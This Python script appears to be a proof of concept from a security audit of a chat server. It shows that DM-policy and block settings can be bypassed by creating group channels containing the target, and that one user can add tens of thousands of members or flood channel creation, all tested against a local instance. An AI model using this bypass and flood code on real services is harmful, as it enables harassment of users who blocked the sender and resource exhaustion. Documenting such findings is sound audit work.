"""dm_policy and blocks against user-made group channels: with dm_policy=off (or a block), a
user cannot open a direct channel with another (403), but can make a group channel with that
user as a member (POST /v1/me/channels, no consent) and message them; and one user can add
tens of thousands of arbitrary ids to a channel in one request and create channels at
hundreds per second (no per-user bound on user routes).

  serve.sh sqlite 19231 CHATD_DM_POLICY=off ; CHATD_URL=http://127.0.0.1:19231 python3 dm_bypass.py
"""
import time

from lib import FINDINGS, Session, check, http, token, uid

A, B = uid("dmA"), uid("dmB")
ta, tb = token(A), token(B)
sb = Session(tb)
st, b = http("PUT", f"/v1/me/direct/{B}", token=ta)
print(f"   PUT /v1/me/direct/B with dm_policy=off: {st} {b}")
st, ch = http("POST", "/v1/me/channels", token=ta, body={"members": [B]})
print(f"   POST /v1/me/channels members [B] (dm_policy off, no block): {st}")
http("PUT", f"/v1/me/blocks/{A}", token=tb)
st2, b2 = http("POST", "/v1/me/channels", token=ta, body={"members": [B]})
print(f"   the same once B blocks A: {st2} {b2}")
http("DELETE", f"/v1/me/blocks/{A}", token=tb)
sa = Session(ta)
r = sa.send_msg(ch["channelId"], "unsolicited")
try:
    f = sb.next(lambda f: f["type"] == "MSG_RECV" and f.get("messageId") == r.get("messageId"), timeout=5)
    got = True
except TimeoutError:
    got = False
added = any(f["type"] == "CHANNEL_ADDED" for f in sb.frames)
print(f"   B got CHANNEL_ADDED {added} and the message {got} (§17: group channels deliver; the client hides)")
for n in (1000, 10000, 50000):
    t0 = time.time()
    st, b = http("POST", "/v1/me/channels", token=ta, body={"members": [f"victim-{i}" for i in range(n)]}, timeout=120)
    print(f"   one user, one request, {n} arbitrary members: {st} in {time.time() - t0:.2f} s")
t0, n = time.time(), 0
while time.time() - t0 < 5:
    st, _ = http("POST", "/v1/me/channels", token=ta, body={"members": [B]})
    if st != 201:
        print("   stopped:", st)
        break
    n += 1
print(f"   channels with B made by A in 5 s: {n}; B's HELLO now lists {len(Session(tb).hello['channels'])} channels")
print("FINDINGS:", FINDINGS)
